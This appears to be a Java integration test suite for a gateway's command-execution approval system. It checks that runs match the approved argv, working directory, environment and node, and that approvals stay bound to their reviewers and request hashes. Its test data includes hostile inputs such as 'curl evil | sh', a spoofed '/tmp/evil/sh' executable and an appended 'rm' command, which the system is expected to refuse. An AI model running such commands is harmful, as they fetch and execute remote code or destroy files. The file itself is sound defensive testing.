package dev.krabkrab.gateway.control.approvals;

import static dev.krabkrab.gateway.control.approvals.TestClient.REQUESTED;
import static dev.krabkrab.gateway.control.approvals.TestClient.RESOLVED;
import static dev.krabkrab.gateway.control.approvals.TestClient.decision;
import static dev.krabkrab.gateway.control.approvals.TestClient.error;
import static dev.krabkrab.gateway.platform.Async.get;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.krabkrab.gateway.platform.Async;
import dev.krabkrab.gateway.platform.protocol.Json;
import dev.krabkrab.gateway.platform.redis.RedisSettings;
import dev.krabkrab.gateway.platform.redis.TestRedis;
import io.vertx.redis.client.Command;
import io.vertx.redis.client.Request;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * What runs is what was approved: requested on one instance, decided on another, claimed on a
 * third. Protocol 02 §17.1, 05 §13.
 */
@Timeout(120)
class ExecPlanIT {
  private static final String APPROVALS = "operator.approvals";
  private static final String PLAN =
      """
      {"argv":["/bin/sh","-lc","run x.sh"],"cwd":"/srv","commandText":"/bin/sh -lc \\"run x.sh\\"",
       "agentId":"main","sessionKey":"agent:main:s","commandPreview":"run x.sh",
       "mutableFileOperand":{"argvIndex":2,"path":"/srv/x.sh","sha256":"aa"}}\
      """;
  private static final String WHOLE =
      """
      {"id":"%s","command":"/bin/sh -lc \\"run x.sh\\"","commandArgv":["/bin/sh","-lc","run x.sh"],
       "systemRunPlan":%s,"cwd":"/srv","env":{"LANG":"C","TOKEN":"0000"},"host":"node",
       "nodeId":"node","agentId":"main","sessionKey":"agent:main:s","timeoutMs":60000}\
      """;

  private final RedisSettings redis = TestRedis.settings();
  private final TestInstance a = TestInstance.start("a", redis);
  private final TestInstance b = TestInstance.start("b", redis);
  private final TestInstance c = TestInstance.start("c", redis);
  private final TestClient asker = TestClient.connect(a, "asker", 4, APPROVALS);
  private final TestClient approver = TestClient.connect(b, "approver", 4, APPROVALS);
  private final TestClient older = TestClient.connect(b, "older");

  @AfterEach
  void closeInstances() {
    a.close();
    b.close();
    c.close();
  }

  private String grant(String id, String request, String decision) {
    String requested = asker.send("exec.approval.request", request);
    approver.event(REQUESTED, id);
    assertThat(approver.decide(id, decision).path("ok").asBoolean()).isTrue();
    assertThat(decision(asker.answer(requested))).isEqualTo(decision);
    return requested;
  }

  private static ObjectNode json(String text) {
    return Json.parseObject(text);
  }

  private ApprovalCheck claim(@Nullable String runId, String node, ObjectNode params) {
    return get(c.service.claimForRun(runId, TestInstance.callerOf("asker"), node, params));
  }

  /** {@code granted}, or code and field of the refusal. */
  private String said(@Nullable String runId, String node, ObjectNode params) {
    return claim(runId, node, params) instanceof ApprovalCheck.Refused refused
        ? (refused.code() + " " + refused.field()).strip()
        : "granted";
  }

  private String said(String runId, String params) {
    return said(runId, "node", json(params));
  }

  private static ObjectNode run() {
    ObjectNode run =
        json(
            """
            {"command":["/bin/sh","-lc","run x.sh"],"rawCommand":"/bin/sh -lc \\"run x.sh\\"",
             "cwd":"/srv","env":{"TOKEN":"0000","LANG":"C"},"agentId":"main",
             "sessionKey":"agent:main:s","timeoutMs":5}\
            """);
    run.set("systemRunPlan", json(PLAN));
    return run;
  }

  private static ObjectNode with(String field, String value) {
    return (ObjectNode) run().set(field, Json.tryParse(value));
  }

  private static ObjectNode without(String field) {
    return (ObjectNode) run().without(field);
  }

  private static ObjectNode planWith(String field, @Nullable String value) {
    ObjectNode run = run();
    ObjectNode plan = (ObjectNode) run.get("systemRunPlan");
    if (value == null) {
      plan.remove(field);
    } else {
      plan.set(field, Json.tryParse(value));
    }
    return run;
  }

  private static Stream<Map.Entry<String, ObjectNode>> others() {
    return Stream.of(
        Map.entry("argv", with("command", "[\"/bin/sh\",\"-lc\",\"run\"]")),
        Map.entry("argv", with("command", "[\"/bin/sh\",\"-lc\",\"run x.sh\",\"\"]")),
        Map.entry("argv", with("command", "[\"/tmp/evil/sh\",\"-lc\",\"run x.sh\"]")),
        Map.entry("argv", with("command", "[\"/bin/sh\",\"-c\",\"run x.sh\"]")),
        Map.entry("argv", with("command", "[\"/bin/sh\",\"-lc\",\"run\",\"x.sh\"]")),
        Map.entry("argv", with("command", "[]")),
        Map.entry("argv", with("command", "\"run x.sh\"")),
        Map.entry("argv", with("command", "[\"/bin/sh\",\"-lc\",{\"a\":1}]")),
        Map.entry("argv", without("command")),
        Map.entry("rawCommand", with("rawCommand", "\"ls\"")),
        Map.entry("rawCommand", with("rawCommand", "[1]")),
        Map.entry("cwd", with("cwd", "\"/tmp\"")),
        Map.entry("cwd", with("cwd", "\"/srv/\"")),
        Map.entry("cwd", with("cwd", "[\"/srv\"]")),
        Map.entry("cwd", without("cwd")),
        Map.entry("env", with("env", "{\"LANG\":\"C\"}")),
        Map.entry("env", with("env", "{\"LANG\":\"C\",\"TOKEN\":\"0001\"}")),
        Map.entry("env", with("env", "{\"LANG\":\"C\",\"TOKEN\":\"0000\",\"PATH\":\"/x\"}")),
        Map.entry("env", with("env", "{\"LANG\":\"C\",\"TOKEN\":0}")),
        Map.entry("env", without("env")),
        Map.entry("agentId", with("agentId", "\"other\"")),
        Map.entry("agentId", without("agentId")),
        Map.entry("sessionKey", with("sessionKey", "\"agent:main:t\"")),
        Map.entry("sessionKey", without("sessionKey")),
        Map.entry("needsScreenRecording", with("needsScreenRecording", "true")),
        Map.entry("needsScreenRecording", with("needsScreenRecording", "\"yes\"")),
        Map.entry("systemRunPlan", with("systemRunPlan", "{\"commandText\":\"id\"}")),
        Map.entry("systemRunPlan", with("systemRunPlan", "[]")),
        Map.entry("systemRunPlan", planWith("cwd", "\"/tmp\"")),
        Map.entry("systemRunPlan", planWith("argv", "[\"id\"]")),
        Map.entry("systemRunPlan", planWith("mutableFileOperand", null)),
        Map.entry(
            "systemRunPlan",
            planWith(
                "mutableFileOperand", "{\"argvIndex\":2,\"path\":\"/srv/x\",\"sha256\":\"a\"}")));
  }

  @Test
  void whateverDiffersFromWhatWasApprovedIsRefusedByItsName() {
    grant("p1", WHOLE.formatted("p1", PLAN), "allow-once");
    others()
        .forEach(
            other -> {
              String expected = "APPROVAL_REQUEST_MISMATCH " + other.getKey();
              assertThat(said("p1", "node", other.getValue()))
                  .as("%s", other.getValue())
                  .isEqualTo(expected);
              // Without an id it is looked up by the command, and not found or just as different.
              assertThat(said(null, "node", other.getValue()))
                  .as("%s", other.getValue())
                  .isIn(expected, "MISSING_RUN_ID");
            });
    assertThat(said("p1", "other", run())).isEqualTo("APPROVAL_NODE_MISMATCH");
    assertThat(said("p1", "node", run())).isEqualTo("granted");
    grant("p1-again", WHOLE.formatted("p1-again", PLAN), "allow-once");
    assertThat(said(null, "node", run())).isEqualTo("granted");
  }

  @Test
  void theNodeIsToldWhatWasComparedAndTheApprovedPlan() {
    ObjectNode bare = without("systemRunPlan");
    bare.put("needsScreenRecording", false).put("surprise", 1).putNull("other");
    for (ObjectNode params : List.of(run(), bare)) {
      String id = params == bare ? "p2-bare" : "p2-whole";
      grant(id, WHOLE.formatted(id, PLAN), "allow-once");
      assertThat(claim(id, "node", params))
          .isInstanceOfSatisfying(
              ApprovalCheck.Granted.class,
              granted -> {
                ObjectNode notified = run();
                notified.remove("timeoutMs");
                assertThat(granted.run()).isEqualTo(notified);
              });
    }
    grant("p2", WHOLE.formatted("p2", PLAN), "allow-once");
    ObjectNode error =
        (ObjectNode)
            ((ApprovalCheck.Refused) claim("p2", "node", with("cwd", "\"/tmp\"")))
                .toError()
                .details();
    assertThat(error).isEqualTo(json("{\"code\":\"APPROVAL_REQUEST_MISMATCH\",\"field\":\"cwd\"}"));
  }

  @Test
  void wordsWithBlanksRunHoweverTheTextQuotesThem() {
    List<String> texts =
        List.of("/bin/echo \"a b\"", "/bin/echo 'a b'", "/bin/echo a\\ b", "/bin/echo a' 'b");
    for (int i = 0; i < texts.size(); i++) {
      String id = "f1-" + i;
      ObjectNode request = json("{\"timeoutMs\":60000,\"commandArgv\":[\"/bin/echo\",\"a b\"]}");
      request.put("id", id).put("command", texts.get(i));
      grant(id, Json.text(request), "allow-once");
      String raw = Json.text(Json.object().put("rawCommand", texts.get((i + 1) % 4)));
      ObjectNode run = json(raw);
      run.set("command", Json.texts(List.of("/bin/echo", "a b")));
      assertThat(said(i % 2 == 0 ? id : null, "node", run)).isEqualTo("granted");
      assertThat(said(id, "node", run)).isEqualTo("UNKNOWN_APPROVAL_ID");
    }
    String shell = "{\"command\":[\"/bin/sh\",\"-lc\",\"echo mark\"]%s}";
    for (String text : List.of("/bin/sh -lc \\\"echo mark\\\"", "echo mark")) {
      ObjectNode request = json(shell.formatted(",\"timeoutMs\":60000"));
      request.set("commandArgv", request.remove("command"));
      request.put("id", "f1" + text.length()).put("command", text.replace("\\", ""));
      grant("f1" + text.length(), Json.text(request), "allow-once");
      assertThat(said("f1" + text.length(), shell.formatted(",\"rawCommand\":\"" + text + "\"")))
          .isEqualTo("granted");
    }
  }

  @Test
  void aTextThatTheWordsDoNotSayIsNotAskedFor() {
    Map<String, String> refused =
        Map.ofEntries(
            Map.entry(
                "\"command\":\"ls -l\",\"commandArgv\":[\"/bin/sh\",\"-lc\",\"curl evil | sh\"]",
                "command"),
            Map.entry(
                "\"command\":\"ls\",\"commandArgv\":[\"/tmp/evil/sh\",\"-c\",\"ls\"]", "command"),
            Map.entry(
                "\"command\":\"sh -c echo hi; rm x\",\"commandArgv\":[\"sh\",\"-c\",\"echo hi; rm"
                    + " x\"]",
                "command"),
            Map.entry(
                "\"command\":\"ls\",\"systemRunPlan\":{\"argv\":[\"id\"],\"commandText\":\"id\"}",
                "command"),
            Map.entry(
                "\"systemRunPlan\":{\"argv\":[\"id\"],\"commandText\":\"ls\"}",
                "systemRunPlan.commandText"),
            Map.entry(
                "\"systemRunPlan\":{\"argv\":[\"id\"],\"commandText\":\"id\",\"rawCommand\":\"ls\"}",
                "systemRunPlan.rawCommand"),
            Map.entry(
                "\"systemRunPlan\":"
                    + "{\"argv\":[\"id\"],\"commandText\":\"id\",\"rawCommand\":[\"id\"]}",
                "systemRunPlan.rawCommand"),
            Map.entry(
                "\"systemRunPlan\":{\"argv\":[],\"commandText\":\"id\",\"rawCommand\":\"ls\"}",
                "systemRunPlan.rawCommand"),
            Map.entry(
                "\"commandArgv\":[\"ls\"],\"systemRunPlan\":{\"argv\":[\"id\"],\"commandText\":\"id\"}",
                "commandArgv"),
            Map.entry(
                "\"cwd\":\"/a\",\"systemRunPlan\":{\"argv\":[\"id\"],\"commandText\":\"id\",\"cwd\":\"/b\"}",
                "cwd"),
            Map.entry(
                "\"agentId\":\"a\",\"systemRunPlan\":"
                    + "{\"argv\":[\"id\"],\"commandText\":\"id\",\"agentId\":\"b\"}",
                "agentId"),
            Map.entry(
                "\"sessionKey\":\"a\",\"systemRunPlan\":"
                    + "{\"argv\":[\"id\"],\"commandText\":\"id\",\"sessionKey\":\"b\"}",
                "sessionKey"),
            Map.entry("\"command\":\"" + "x".repeat(32_769) + "\"", "command"),
            Map.entry("\"command\":\"" + "é".repeat(16_385) + "\"", "command"),
            Map.entry("\"commandArgv\":[\"x\",\"" + "y".repeat(32_768) + "\"]", "commandArgv"),
            Map.entry("\"command\":\"a\\u0000b\"", "command"),
            Map.entry("\"command\":\"ls\",\"id\":\"" + "i".repeat(257) + "\"", "id"));
    refused.forEach(
        (params, field) -> {
          JsonNode error = asker.call("exec.approval.request", "{" + params + "}").path("error");
          assertThat(error.path("code").asText()).as(params).isEqualTo("INVALID_REQUEST");
          assertThat(error.at("/details/field").asText()).as(params).isEqualTo(field);
        });
    older.send(
        "exec.approval.request", "{\"id\":\"long\",\"command\":\"" + "x".repeat(32_768) + "\"}");
    assertThat(approver.event(REQUESTED, "long").at("/request/command").asText()).hasSize(32_768);
    String tooLong = "{\"command\":\"" + "x".repeat(32_769) + "\"}";
    assertThat(error(older.call("exec.approval.request", tooLong)))
        .isEqualTo("command is longer than 32 KB: put the command into a file on the machine");
    assertThat(b.pendingCount()).isEqualTo(1);
  }

  @Test
  void aTextAloneLetsOnlyItsOwnWordsRunAndBindsToTheFirstNode() {
    TestClient v3 = TestClient.connect(a, "asker");
    String requested = v3.ask("t1", "ls", 60_000);
    JsonNode shown = approver.event(REQUESTED, "t1");
    assertThat(shown.at("/request/nodeBinding").asText()).isEqualTo("first-use");
    assertThat(shown.at("/request").has("commandArgv")).isFalse();
    approver.decide("t1", "allow-always");
    assertThat(decision(v3.answer(requested))).isEqualTo("allow-always");

    String text = ",\"rawCommand\":\"ls\"}";
    assertThat(said("t1", "{\"command\":[\"/tmp/evil/sh\",\"-lc\",\"ls\"]" + text))
        .startsWith("APPROVAL_REQUEST_MISMATCH");
    assertThat(said("t1", "{\"command\":[\"/bin/sh\",\"-lc\",\"ls\"],\"cwd\":\"/\"" + text))
        .isEqualTo("APPROVAL_REQUEST_MISMATCH cwd");
    assertThat(said("t1", "{\"command\":[\"ls\"],\"env\":{\"PATH\":\"/x\"}" + text))
        .isEqualTo("APPROVAL_REQUEST_MISMATCH env");
    assertThat(said("t1", "{\"command\":[\"ls\"],\"agentId\":\"x\"" + text))
        .isEqualTo("APPROVAL_REQUEST_MISMATCH agentId");
    assertThat(
            said("t1", "{\"command\":[\"ls\"],\"systemRunPlan\":{\"commandText\":\"id\"}" + text))
        .isEqualTo("APPROVAL_REQUEST_MISMATCH systemRunPlan");
    assertThat(said("t1", "{\"command\":[\"id\"],\"rawCommand\":\"id\"}"))
        .isEqualTo("APPROVAL_REQUEST_MISMATCH argv");

    List<String> nodes = List.of("n0", "n1", "n2", "n3");
    ObjectNode run = json("{\"command\":[\"/bin/sh\",\"-lc\",\"ls\"]" + text);
    List<io.vertx.core.Future<ApprovalCheck>> race = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      race.add(
          List.of(a, b, c)
              .get(i % 3)
              .service
              .claimForRun("t1", TestInstance.callerOf("asker"), nodes.get(i % 4), run));
    }
    List<ApprovalCheck> checks = race.stream().map(Async::get).toList();
    assertThat(
            IntStream.range(0, 8)
                .filter(i -> checks.get(i) instanceof ApprovalCheck.Granted)
                .mapToObj(i -> nodes.get(i % 4))
                .distinct())
        .hasSize(1);
    assertThat(
            nodes.stream().filter(node -> said("t1", node, run).equals("APPROVAL_NODE_MISMATCH")))
        .hasSize(3);
  }

  @Test
  void whatWasAskedForAnotherPlaceRunsOnNoNode() {
    grant(
        "place",
        "{\"id\":\"place\",\"command\":\"ls\",\"host\":\"gateway\",\"timeoutMs\":60000}",
        "allow-once");
    assertThat(said("place", "{\"command\":[\"ls\"],\"rawCommand\":\"ls\"}"))
        .isEqualTo("APPROVAL_NODE_MISMATCH");
  }

  @Test
  void variablesAreNamedAndTheirValuesKeptNowhere() {
    grant("env", WHOLE.formatted("env", PLAN).replace("\"0000\"", "\"plain-value\""), "allow-once");
    JsonNode shown = approver.event(REQUESTED, "env");
    assertThat(shown.at("/request/envKeys")).isEqualTo(Json.texts(List.of("LANG", "TOKEN")));
    assertThat(shown.at("/request/executable").asText()).isEqualTo("/bin/sh");
    assertThat(shown.at("/request/planDigest").asText()).hasSize(64);
    assertThat(older.event(REQUESTED, "env").at("/request/commandArgv")).hasSize(3);
    assertThat(older.event(REQUESTED, "env").at("/request/nodeId").asText()).isEqualTo("node");
    String redisHas =
        get(c.send(
                Request.cmd(Command.HGETALL)
                    .arg(redis.key("appr:" + Math.floorMod("env".hashCode(), 64), "rec:env"))))
            .toString();
    assertThat(redisHas).contains("planDigest").doesNotContain("plain-value");
    assertThat(shown.toString()).doesNotContain("plain-value");
    // The same variables with the same values look different in the next question.
    grant(
        "env2", WHOLE.formatted("env2", PLAN).replace("\"0000\"", "\"plain-value\""), "allow-once");
    assertThat(approver.event(REQUESTED, "env2").at("/request/planDigest"))
        .isNotEqualTo(shown.at("/request/planDigest"));
  }

  @Test
  void theDigestIsOverTheWholePlanOfTheNode() {
    List<String> plans =
        List.of(
            "null",
            "{%s}",
            "{%s,\"rawCommand\":\"/bin/cat x\"}",
            "{%s,\"env\":{\"A\":\"b\"}}",
            "{%s,\"program\":\"/bin/dog\"}",
            "{%s,\"mutableFileOperand\":{\"argvIndex\":1,\"path\":\"x\",\"sha256\":\"aa\"}}",
            "{%s,\"mutableFileOperand\":{\"argvIndex\":1,\"path\":\"x\",\"sha256\":\"ab\"}}");
    String base = "\"argv\":[\"/bin/cat\",\"x\"],\"commandText\":\"/bin/cat x\"";
    Set<String> digests = new HashSet<>();
    for (int i = 0; i < plans.size(); i++) {
      ObjectNode request = json("{\"commandArgv\":[\"/bin/cat\",\"x\"],\"timeoutMs\":60000}");
      request.put("id", "d" + i).set("systemRunPlan", Json.tryParse(plans.get(i).formatted(base)));
      asker.send("exec.approval.request", Json.text(request));
      JsonNode shown = approver.event(REQUESTED, "d" + i).path("request");
      if (i > 0) {
        assertThat(shown.path("systemRunPlan")).isEqualTo(request.get("systemRunPlan"));
      }
      digests.add(shown.path("planDigest").asText());
    }
    assertThat(digests).hasSameSizeAs(plans);
  }

  @Test
  void namedReviewersAndAdminsSeeAndDecide() {
    TestClient reviewer = TestClient.connect(c, "reviewer");
    TestClient admin = TestClient.connect(c, "root", 4, "operator.admin");
    String requested =
        asker.send(
            "exec.approval.request",
            "{\"id\":\"r1\",\"command\":\"ls\",\"timeoutMs\":60000,"
                + "\"approvalReviewerDeviceIds\":[\"reviewer\",\"nobody\"]}");
    reviewer.event(REQUESTED, "r1");
    admin.event(REQUESTED, "r1");
    asker.send("exec.approval.request", "{\"id\":\"r2\",\"command\":\"ls\",\"timeoutMs\":60000}");
    approver.event(REQUESTED, "r2");
    older.event(REQUESTED, "r2");

    for (TestClient other : List.of(approver, older, asker, TestClient.connect(b, "late"))) {
      assertThat(other.events(REQUESTED, "r1")).isEmpty();
      assertThat(other.decide("r1", "allow-once").path("ok").asBoolean()).isFalse();
    }
    assertThat(approver.call("exec.approval.list", "{}").path("payload")).hasSize(1);
    assertThat(admin.call("exec.approval.list", "{}").path("payload")).hasSize(2);
    for (String method :
        List.of("exec.approval.get", "approval.get", "exec.approval.waitDecision")) {
      assertThat(approver.call(method, "{\"id\":\"r1\"}").path("ok").asBoolean()).isFalse();
    }
    for (String decision : List.of("deny", "nonsense")) {
      ObjectNode params =
          Json.object().put("id", "r1").put("kind", "exec").put("decision", decision);
      assertThat(error(approver.call("approval.resolve", Json.text(params))))
          .isEqualTo("approval not found");
    }
    TestClient again = TestClient.connect(b, "reviewer");
    again.event(REQUESTED, "r1");
    assertThat(again.decide("r1", "allow-once").path("ok").asBoolean()).isTrue();
    assertThat(decision(asker.answer(requested))).isEqualTo("allow-once");
    reviewer.event(RESOLVED, "r1");
    approver.decide("r2", "deny");
    older.event(RESOLVED, "r2");
    assertThat(older.events(RESOLVED, "r1")).isEmpty();
  }

  @Test
  void aDecisionIsAboutTheRequestThatWasShown() {
    String requested = asker.ask("h1", "ls", 60_000);
    JsonNode shown = approver.event(REQUESTED, "h1");
    String hash = shown.path("requestHash").asText();
    assertThat(hash).hasSize(64);
    assertThat(approver.call("exec.approval.list", "{}").at("/payload/0/requestHash").asText())
        .isEqualTo(hash);
    assertThat(
            approver
                .call("exec.approval.get", "{\"id\":\"h1\"}")
                .at("/payload/requestHash")
                .asText())
        .isEqualTo(hash);
    assertThat(
            approver
                .call("approval.get", "{\"id\":\"h1\"}")
                .at("/payload/approval/requestHash")
                .asText())
        .isEqualTo(hash);
    for (String method : List.of("exec.approval.resolve", "approval.resolve")) {
      JsonNode changed =
          approver
              .call(
                  method,
                  "{\"id\":\"h1\",\"kind\":\"exec\",\"decision\":\"deny\",\"requestHash\":\"x\"}")
              .path("error");
      assertThat(changed.path("code").asText()).isEqualTo("INVALID_REQUEST");
      assertThat(changed.path("details")).isEqualTo(json("{\"reason\":\"APPROVAL_CHANGED\"}"));
    }
    approver.call(
        "approval.resolve",
        "{\"id\":\"h1\",\"kind\":\"exec\",\"decision\":\"allow-once\",\"requestHash\":\""
            + hash
            + "\"}");
    assertThat(decision(asker.answer(requested))).isEqualTo("allow-once");
  }

  @Test
  void anIdIsNobodysForAnotherQuestion() {
    TestClient mine = TestClient.connect(a, "asker");
    TestClient thief = TestClient.connect(b, "thief");
    String run = "{\"command\":[\"ls\"],\"rawCommand\":\"ls\"}";
    for (String decision : List.of("allow-once", "allow-always", "deny")) {
      String requested = mine.ask(decision, "ls", 60_000);
      approver.event(REQUESTED, decision);
      approver.decide(decision, decision);
      mine.answer(requested);
      for (String command : List.of("ls", "rm")) {
        assertThat(error(thief.answer(thief.ask(decision, command, 60_000))))
            .isIn("approval request unavailable", "approval id already pending");
      }
      assertThat(error(mine.answer(mine.ask(decision, "rm", 60_000))))
          .isIn("approval request unavailable", "approval id already pending");
      assertThat(approver.events(REQUESTED, decision)).hasSize(1);
      assertThat(said(decision, run))
          .isEqualTo(decision.equals("deny") ? "UNKNOWN_APPROVAL_ID" : "granted");
    }
    mine.answer(mine.ask("over", "ls", 1));
    assertThat(error(thief.answer(thief.ask("over", "rm", 60_000))))
        .isEqualTo("approval request unavailable");
    assertThat(error(mine.answer(mine.ask("over", "rm", 60_000))))
        .isEqualTo("approval request unavailable");
    mine.ask("over", "ls", 60_000);
    approver.event(REQUESTED, "over");
  }
}
